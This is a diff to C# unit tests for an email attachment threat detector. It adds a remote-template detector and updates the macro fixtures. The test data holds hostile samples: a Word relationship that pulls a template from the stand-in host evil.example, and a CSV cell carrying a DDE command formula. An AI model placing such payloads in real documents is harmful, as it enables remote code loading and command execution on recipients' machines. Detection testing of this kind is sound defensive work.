@@ -9,7 +9,7 @@ namespace Platform.Engine.Tests.Detectors.Files;
 
 public sealed class FileSignsTests
 {
-    private static readonly IDetector[] Detectors = [new TestVirus(), new ExecutableFile(), new FileNames(), new EncryptedArchive(), new OfficeMacro(), new PdfActive(), new RiskyFile(), new HtmlSmuggling()];
+    private static readonly IDetector[] Detectors = [new TestVirus(), new ExecutableFile(), new FileNames(), new EncryptedArchive(), new OfficeMacro(), new OfficeRemote(), new PdfActive(), new RiskyFile(), new HtmlSmuggling()];
 
     public static TheoryData<string, string, byte[]> Hostile => new()
     {
@@ -35,8 +35,8 @@ public sealed class FileSignsTests
         { "type-mismatch", "invoice.pdf", TestFiles.Text("<html><body><script>1</script></body></html>") },
         { "type-mismatch", "invoice.doc", TestFiles.Shortcut },
         { "encrypted-archive", "files.zip", TestFiles.EncryptedZip() },
-        { "macro-document", "report.docm", TestFiles.Word(("word/vbaProject.bin", TestFiles.Ole("_VBA_PROJECT"))) },
-        { "macro-document", "report.docx", TestFiles.Word(("word/vbaProject.bin", TestFiles.Ole("_VBA_PROJECT"))) },
+        { "macro-document", "report.docm", TestFiles.Word(("word/vbaProject.bin", TestFiles.MacroProject)) },
+        { "macro-document", "report.docx", TestFiles.Word(("word/vbaProject.bin", TestFiles.MacroProject)) },
         { "macro-document", "report.doc", TestFiles.Ole("_VBA_PROJECT") },
         { "external-template", "report.docx", TestFiles.Word(("word/_rels/settings.xml.rels", TestFiles.Text("<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"))) },
         { "dynamic-data-exchange", "list.csv", TestFiles.Text("name,value\n=cmd|'/C calc'!A0,1\n") },
@@ -117,7 +117,7 @@ public sealed class FileSignsTests
     [InlineData("콘텐츠 사용을 눌러 주세요.")]
     public void A_macro_document_that_asks_to_be_switched_on_is_a_lure(string text)
     {
-        Assert.Contains("macro-lure", new TestMail { Text = text, Files = [("report.docm", TestFiles.Word(("word/vbaProject.bin", TestFiles.Ole("_VBA_PROJECT"))))] }.SignsOf(new OfficeMacro()));
+        Assert.Contains("macro-lure", new TestMail { Text = text, Files = [("report.docm", TestFiles.Word(("word/vbaProject.bin", TestFiles.MacroProject)))] }.SignsOf(new OfficeMacro()));
     }
 
     [Fact]
